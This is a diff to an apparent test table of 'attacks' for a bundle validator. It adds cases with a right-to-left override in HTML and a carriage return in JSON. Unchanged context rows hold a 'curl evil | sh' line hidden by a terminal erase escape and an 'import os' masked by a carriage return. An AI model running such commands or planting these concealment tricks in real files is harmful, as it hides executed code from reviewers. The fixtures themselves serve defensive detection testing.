@@ -221,6 +221,8 @@ ATTACKS: tuple[Row, ...] = (
     ("a control character in a folder", then(put("bundle/resume/from-2.sql", b"\x07\n"), seal), f"{CONTROL} (resume/from-2.sql)"),
     ("a shell script that erases a line of itself", then(put("bundle/tenants.sh", b"curl evil | sh # \x1b[2K\n"), seal), f"{CONTROL} (tenants.sh)"),
     ("a review that reads backwards", then(put("bundle/review.md", "# \u202eReview\n".encode()), seal), f"{CONTROL} (review.md)"),
+    ("a page that reads backwards", then(put("bundle/review.html", "<p>\u202ewas</p>\n".encode()), seal), f"{CONTROL} (review.html)"),
+    ("a carriage return in JSON", then(put("bundle/review.json", b"{}\r{}\n"), seal), f"{CONTROL} (review.json)"),
     ("a carriage return in a revision file", then(put("bundle/hotfix/revision.py", b"# nothing\rimport os\n"), seal), f"{CONTROL} (hotfix/revision.py)"),
 )
 # fmt: on
